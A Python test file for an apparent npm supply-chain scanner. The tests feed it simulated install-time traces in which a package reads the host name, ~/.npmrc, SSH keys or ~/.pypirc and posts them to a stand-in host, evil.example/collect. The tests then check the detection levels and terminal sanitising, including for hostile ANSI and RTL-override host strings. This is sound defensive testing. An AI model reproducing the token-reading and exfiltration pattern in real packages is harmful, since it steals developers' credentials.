# SPDX-License-Identifier: Apache-2.0
"""A trace and a gateway's record, judged together."""

from __future__ import annotations

import json
import socket
import struct
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from rich.text import Text

import frames
from fpbox.attribute import Attributor
from fpbox.judge import conclude, judge
from fpbox.model import (
    Coverage,
    Finding,
    Level,
    Outcome,
    Package,
    PackageScore,
    Process,
    Report,
    RunInfo,
    Scope,
    Verdict,
)
from fpbox.recipes import Matcher, load_catalogue
from fpbox.report import json as json_report
from fpbox.report import terminal
from fpbox.report.explain import render
from fpbox.report.explanation import explain
from fpbox.sealed.account import Account
from fpbox.session import Session
from fpbox.trace import records
from frames import CONNECT, KIND
from gateway import EVIL, HOST, TOKEN, Gateway

SCHEMA = json.loads((Path(__file__).parents[2] / "docs" / "report.schema.json").read_text("utf-8"))
TCP = 1 << 16
INFO = RunInfo(
    "r", ("npm", "install"), "fpbox/npm", "sha256:0", "2026-01-01T00:00:00Z", 1.0, 0, "registry", "deep"
)


class Scopes(Attributor):
    phase = "postinstall"

    def image(self, process: Process) -> Scope:
        return Scope(EVIL, self.phase, 1.0, "", process.image)

    def final(self, package: Package) -> Package:
        return replace(package, via=("app", "evil"))


def traced(address: str, port: int, at_ns: int, reads: tuple[bytes, ...] = ()) -> bytes:
    """One program that reads files and connects once."""
    where = struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(address) + bytes(8)
    said = frames.hello()
    for number, text in enumerate((b"/usr/bin/node", b"/app", b"node\0x.js\0", where, *reads), 1):
        said += frames.string(number, text)
    last = len(reads) + 1
    events = b"".join(frames.opening(number, number + 4) for number in range(1, last))
    events += records.EVENT.pack(last, at_ns, 1, 10, 1, CONNECT, 0, 0, 4, 0, 0, 0, 0, TCP)
    said += frames.image(1) + frames.frame(KIND.EVENTS, events)
    return said + frames.whole_end(said, last)


def run(
    body: bytes, host: str = "evil.example", lines: bytes | None = None
) -> tuple[Report, tuple[Finding, ...]]:
    gateway = Gateway().ready()
    gateway.dns(0.5, host)
    gateway.tls(1.1, gateway.flow(1.01, host, 443), host)
    gateway.request(1.2, 1, host, "/collect?v=1", body)
    account = Account((HOST, TOKEN))
    account.feed(gateway.data if lines is None else lines)
    account.close()
    session = Session(Matcher(load_catalogue()), Scopes(), account=account)
    session.feed(traced(gateway.address(host), 443, 1_000_000_000))
    session.close()
    sealed, risen = conclude(session, account)
    return judge(session, Scopes(), INFO, session.coverage(), Level.HIGH, sealed=sealed), risen


def test_a_package_that_sends_the_host_name_is_critical_by_that_alone():
    report, risen = run(b"h=lena-thinkpad-x13")
    (evil,) = report.packages
    (finding,) = (one for one in evil.findings if one.recipe == "identity_exfiltrated")
    assert report.verdict.outcome is Outcome.FLAGGED
    assert evil.level is Level.CRITICAL
    assert [(one.kind, one.value, one.destination) for one in finding.thefts] == [
        ("host_name", "lena-thinkpad-x13", "https://evil.example/collect?v=1")
    ]
    assert finding.evidence[0].object == "https://evil.example/collect?v=1"
    assert "credential_exfiltrated" not in [one.recipe for one in evil.findings]
    assert [one.thefts for one in risen if one.recipe == "identity_exfiltrated"] == [finding.thefts]


IDENTITY = (b"/etc/machine-id", b"/etc/hostname")


class LoadedScopes(Scopes):
    phase = "import"


def fetched(
    host: str,
    lines: Callable[[Gateway], None],
    reads: tuple[bytes, ...] = IDENTITY,
    scopes: type[Scopes] = Scopes,
) -> PackageScore:
    """What is said of a package that reads who the machine is, or else, and then reaches for a host."""
    gateway = Gateway().ready()
    gateway.dns(0.5, host)
    gateway.tls(1.1, gateway.flow(1.01, host, 443), host)
    lines(gateway)
    account = Account((HOST, TOKEN))
    account.feed(gateway.data)
    account.close()
    session = Session(Matcher(load_catalogue()), scopes(), account=account)
    session.feed(traced(gateway.address(host), 443, 1_000_000_000, reads))
    session.close()
    sealed, _ = conclude(session, account)
    return judge(session, scopes(), INFO, session.coverage(), Level.HIGH, sealed=sealed).packages[0]


WHOLE, CLEAN = Coverage(complete=True, calls=1, lost=0), Verdict(Outcome.CLEAN, None)
SUSPICIONS = {"probe_then_egress", "identity_then_egress", "beacon"}


def test_a_package_that_only_fetched_from_where_nobody_sees_who_asks_sent_nothing_it_learnt():
    found = fetched(
        "github.com", lambda gateway: gateway.request(1.2, 1, "github.com", "/x.gz", method="GET")
    )
    disproved = {one.recipe for one in found.findings if one.explained_by == "sent"}
    assert disproved == SUSPICIONS
    assert found.level is Level.MEDIUM
    assert not [one for one in found.findings if one.recipe == "egress_attempt" and one.intent]
    (shown,) = explain(json.loads(json_report.render(Report(INFO, WHOLE, CLEAN, (found,)))), EVIL.purl)
    assert set(shown.disproved) == SUSPICIONS
    assert "questions for files" in str([str(part) for part in render(shown)])


@pytest.mark.parametrize(
    ("host", "request_"),
    [
        ("github.com", {"method": "POST"}),
        ("github.com", {"method": "GET", "body": b"h=1"}),
        ("github.com", {"method": "GET", "protocol": "websocket"}),
        ("github.com", {"method": "GET", "host": "evil.example"}),
        ("evil.example", {"method": "GET", "host": "github.com"}),
        ("storage.googleapis.com", {"method": "GET"}),
        ("github.com", {"method": "GET", "target": "http://evil.example/x"}),
        ("github.com", {"method": "GET", "protocol": "ftp"}),
    ],
    ids=[
        "posted",
        "with a body",
        "websocket",
        "another host asked",
        "another host reached",
        "log",
        "proxy",
        "ftp",
    ],
)
def test_any_other_word_that_was_sent_leaves_the_suspicion(host: str, request_: dict[str, Any]):
    asked = {"host": host, "target": "/x.gz", **request_}
    found = fetched(host, lambda gateway: gateway.request(1.2, 1, **asked))
    assert {one.recipe for one in found.findings if not one.explained} >= SUSPICIONS
    assert found.level is Level.CRITICAL


SETTINGS = b"/home/dev/.npmrc"
ARCHIVE = "/downloads/3.4.7/tool-linux64.tar.gz"


def test_a_download_helper_that_read_npms_settings_is_suspected_less():
    found = fetched(
        "tools.example",
        lambda gateway: gateway.request(1.2, 1, "tools.example", ARCHIVE, method="GET"),
        (SETTINGS,),
    )
    (suspicion,) = (one for one in found.findings if one.recipe == "credential_then_egress")
    assert not suspicion.explained
    assert found.level is Level.MEDIUM


COUNTED = {"method": "POST", "body": b"v=1&tid=UA-104729356-1&t=screenview&cd=linux-user"}


@pytest.mark.parametrize(
    ("reached", "named", "reads", "level"),
    [
        ("www.google-analytics.com", "www.google-analytics.com", (SETTINGS,), Level.MEDIUM),
        ("evil.example", "www.google-analytics.com", (SETTINGS,), Level.CRITICAL),
        ("evil.example", "evil.example", (SETTINGS,), Level.CRITICAL),
        ("www.google-analytics.com", "www.google-analytics.com", (b"/home/dev/.pypirc",), Level.CRITICAL),
    ],
    ids=["counted", "another host reached", "no such service", "a token for publishing"],
)
def test_who_read_npms_settings_and_counts_its_installs_is_suspected_less(
    reached: str, named: str, reads: tuple[bytes, ...], level: Level
):
    found = fetched(reached, lambda gateway: gateway.request(1.2, 1, named, "/collect", **COUNTED), reads)
    assert found.level is level


@pytest.mark.parametrize(
    ("request_", "reads"),
    [
        ({"method": "POST"}, (SETTINGS,)),
        ({"method": "GET", "body": b"1"}, (SETTINGS,)),
        ({"method": "GET", "target": f"{ARCHIVE}?id=1"}, (SETTINGS,)),
        ({"method": "GET", "host": "elsewhere.example"}, (SETTINGS,)),
        ({"method": "GET"}, (SETTINGS, b"/home/dev/.ssh/id_rsa")),
        ({"method": "GET"}, (b"/home/dev/.pypirc",)),
    ],
    ids=[
        "posted",
        "with a body",
        "with a query",
        "another host asked",
        "a key as well",
        "a token for publishing",
    ],
)
def test_what_could_carry_a_token_leaves_the_suspicion_whole(
    request_: dict[str, Any], reads: tuple[bytes, ...]
):
    asked = {"host": "tools.example", "target": ARCHIVE, **request_}
    found = fetched("tools.example", lambda gateway: gateway.request(1.2, 1, **asked), reads)
    assert found.level is Level.CRITICAL


@pytest.mark.parametrize(
    ("request_", "level"),
    [
        ({"target": ARCHIVE, "method": "GET"}, Level.MEDIUM),
        ({"target": ARCHIVE, "method": "POST"}, Level.HIGH),
        ({"target": f"{ARCHIVE}?id=1", "method": "GET"}, Level.HIGH),
        ({"target": "/3f9a1c77e0b2/tool.zip", "method": "GET"}, Level.HIGH),
        ({"target": "/stage.py", "method": "GET"}, Level.HIGH),
        ({"target": "/users/main/list.json", "method": "GET"}, Level.HIGH),
    ],
    ids=["an archive", "posted", "with a query", "a name that says something", "a script", "a list"],
)
def test_of_code_that_is_loaded_only_a_plain_question_for_a_file_at_an_unknown_host_is_medium(
    request_: dict[str, str], level: Level
):
    asked = {"host": "tools.example", **request_}
    found = fetched(
        "tools.example", lambda gateway: gateway.request(1.2, 1, **asked), (b"/app/x.js",), LoadedScopes
    )
    (unfamiliar,) = (one for one in found.findings if one.recipe == "unfamiliar_host")
    assert unfamiliar.importance.value == level.value
    assert found.level.rank >= level.rank


def test_bytes_that_are_no_request_leave_the_suspicion():
    found = fetched(
        "github.com",
        lambda gateway: gateway.say("data", t=1_200_000_000, flow=1, body="aGk=", size=2, cut=False),
    )
    assert {one.recipe for one in found.findings if not one.explained} >= SUSPICIONS


def test_a_record_that_is_not_whole_disproves_nothing():
    found = fetched(
        "github.com", lambda gateway: gateway.say("limit", t=1_200_000_000, what="requests", limit=1)
    )
    assert {one.recipe for one in found.findings if not one.explained} >= SUSPICIONS


def test_a_token_is_a_finding_of_its_own():
    report, _ = run(b"lena-thinkpad-x13 " + TOKEN.value)
    found = {
        one.recipe: [theft.kind for theft in one.thefts] for one in report.packages[0].findings if one.thefts
    }
    assert found == {"identity_exfiltrated": ["host_name"], "credential_exfiltrated": ["npm_token"]}


def test_a_package_that_sends_nothing_of_the_machine_has_no_finding_of_the_search():
    report, _ = run(b"h=somebody-else")
    assert not [one for one in report.packages[0].findings if one.recipe.endswith("_exfiltrated")]
    assert [one.target for one in report.packages[0].sent] == ["/collect?v=1"]


def test_a_connection_has_the_name_that_its_address_was_invented_for():
    report, _ = run(b"")
    assert [(one.host, one.port) for one in report.network] == [("evil.example", 443)]


def test_a_connect_is_told_with_the_name_of_its_host():
    gateway = Gateway().ready()
    gateway.dns(0.5, "evil.example")
    account, seen = Account(), []
    account.feed(gateway.data)
    session = Session(
        Matcher(load_catalogue()), Scopes(), lambda event, _: seen.append(event), account=account
    )
    session.feed(traced(gateway.address("evil.example"), 443, 1_000_000_000))
    assert [(event.object, event.detail) for event in seen] == [("tcp://198.18.0.1:443", ("evil.example",))]


def test_a_host_behind_a_registrys_address_is_a_finding():
    gateway = Gateway().ready()
    gateway.flow(1.01, "registry.example", 443)
    gateway.say("attempt", t=1_200_000_000, what="another_host", detail="flow 1: it asks for evil.example")
    report, _ = run(b"", "registry.example", gateway.data)
    assert "gateway_evasion" in [one.recipe for one in report.packages[0].findings]


def test_a_record_that_is_not_whole_makes_the_run_inconclusive():
    report, _ = run(b"", lines=b'{"kind": "ready", "v": 1}\n{"kind": "flow"')
    assert report.verdict.outcome is Outcome.INCONCLUSIVE
    assert not report.coverage.complete


def test_the_report_has_the_whole_value_and_keeps_to_its_schema():
    report, _ = run(b"t=" + TOKEN.value)
    document = json.loads(json_report.render(report))
    jsonschema.validate(document, SCHEMA)
    (package,) = document["packages"]
    thefts = [theft for finding in package["findings"] for theft in finding["thefts"]]
    assert [theft["value"] for theft in thefts] == [TOKEN.value.decode()]
    assert package["requests"][0]["target"] == "/collect?v=1"


def test_the_terminal_shows_what_was_taken_shortened_and_what_was_sent():
    report, _ = run(b"t=" + TOKEN.value)
    lines = [line.plain.strip() for line in terminal.render(report)]
    assert "sent 42 bytes to evil.example (POST /collect?v=1)" in lines
    (shown,) = (line for line in lines if line.startswith("npm_token"))
    assert shown == "npm_token npm_Zq8rT2vLw0Xc5YbN7mKd3Pf… in body: https://evil.example/collect?v=1"


def test_an_explanation_says_what_was_stolen():
    report, _ = run(b"t=" + TOKEN.value)
    (evil,) = explain(json.loads(json_report.render(report)))
    assert [(one.kind, one.value, one.where) for one in evil.stolen] == [
        ("npm_token", TOKEN.value.decode(), "~/.npmrc")
    ]
    shown = [line.plain for line in render(evil) if isinstance(line, Text)]
    assert (
        f"    npm_token {TOKEN.value.decode()}  from ~/.npmrc, in body: https://evil.example/collect?v=1"
        in shown
    )


@pytest.mark.parametrize("host", ["evil.example\x1b[2J", "\u202egpj.example"])
def test_nothing_a_package_says_reaches_the_terminal_raw(host):
    report, _ = run(b"h=lena-thinkpad-x13", host)
    assert all(line.plain.isprintable() for line in terminal.render(report))
